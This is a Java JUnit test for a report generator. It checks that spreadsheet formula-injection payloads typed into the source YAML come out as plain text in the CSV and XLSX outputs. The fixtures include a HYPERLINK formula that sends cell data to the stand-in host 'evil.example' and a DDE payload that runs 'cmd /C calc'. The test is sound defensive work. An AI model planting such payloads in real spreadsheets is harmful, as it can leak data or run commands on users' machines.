package jixiao.render;

import jixiao.testing.Builds;
import jixiao.testing.ContentFixture;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Text an editor typed that a spreadsheet would take for a formula (OWASP's CSV injection list) reaches
 * summary.csv only as text and summary.xlsx only as text cells formatted as text, in both editions.
 */
@Timeout(60)
class SpreadsheetFormulaInjectionTest {

    static final String NAME = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")";
    static final String TOTAL = "+1+1";
    static final String GRADE = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String UNIT = "-2+3";
    /** A stated 预算执行率 that is not a number: carried as written, as text. */
    static final String RATE = "=1+98%";

    @TempDir
    Path tmp;

    @Test
    void cellsThatStartLikeAFormulaAreTextInTheCsvAndTheWorkbookOfBothEditions() throws IOException {
        Path content = tmp.resolve("content");
        ContentFixture.copyTree(Builds.fixtureContent(), content);
        Path fund = content.resolve("2020/inspection/inspection-fund.yaml");
        Files.writeString(fund, Files.readString(fund)
                .replace("name: \"监察专项资金\"", "name: '" + NAME.replace("'", "''") + "'")
                .replace("  execution_rate: \"99%\"", "  execution_rate: \"" + RATE + "\"")
                .replace("  total: 100\n", "  total: \"" + TOTAL + "\"\n")
                .replace("  grade: \"优\"", "  grade: '" + GRADE.replace("'", "''") + "'"));
        Path unit = content.resolve("2020/inspection/unit.yaml");
        Files.writeString(unit, Files.readString(unit).replace("name: 监察大队", "name: \"" + UNIT + "\""));
        Builds.build(content, tmp.resolve("out"));

        for (String edition : List.of("internal", "public")) {
            String csv = Files.readString(tmp.resolve("out/" + edition + "/2020/summary.csv"), StandardCharsets.UTF_8);
            String row = csv.lines().filter(l -> l.contains(",inspection-fund,")).findFirst().orElseThrow();
            assertTrue(row.startsWith("2020,inspection,'" + UNIT + ",inspection-fund,\"'" + NAME.replace("\"", "\"\"") + "\","), row);
            assertTrue(row.contains(",'" + TOTAL + ","), row);
            assertTrue(row.contains(",'" + GRADE + ","), row);
            assertTrue(row.contains(",'" + RATE + ","), row);
            for (String line : csv.substring(1).split("\r\n")) {
                for (String field : line.split(",", -1)) {
                    String cell = field.startsWith("\"") ? field.substring(1) : field;
                    assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, edition + ": " + line);
                }
            }

            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                    Files.readAllBytes(tmp.resolve("out/" + edition + "/2020/summary.xlsx"))))) {
                Row xlsx = row(book.getSheet("汇总表"), "inspection-fund");
                assertText(xlsx.getCell(1), UNIT);
                assertText(xlsx.getCell(3), NAME);
                assertText(xlsx.getCell(7), RATE);
                assertText(xlsx.getCell(9), TOTAL);
                assertText(xlsx.getCell(11), GRADE);
                Row stats = row(book.getSheet("统计表"), UNIT);
                assertText(stats.getCell(0), UNIT);
                for (Sheet sheet : book) {
                    for (Row r : sheet) {
                        for (Cell c : r) {
                            assertNotEquals(CellType.FORMULA, c.getCellType(), sheet.getSheetName() + " " + c.getAddress());
                            if (c.getCellType() == CellType.STRING) {
                                assertEquals("@", c.getCellStyle().getDataFormatString(), sheet.getSheetName() + " " + c.getAddress());
                            }
                        }
                    }
                }
            }
        }
    }

    /** A text cell, exactly as typed (no apostrophe shown), that stays text when edited. */
    private static void assertText(Cell cell, String text) {
        assertEquals(CellType.STRING, cell.getCellType(), cell.getAddress().toString());
        assertEquals(text, cell.getStringCellValue());
        assertEquals("@", cell.getCellStyle().getDataFormatString(), cell.getAddress().toString());
    }

    private static Row row(Sheet sheet, String key) {
        for (Row r : sheet) {
            for (Cell c : r) if (c.getCellType() == CellType.STRING && c.getStringCellValue().equals(key)) return r;
        }
        throw new AssertionError("no row with " + key + " in " + sheet.getSheetName());
    }
}
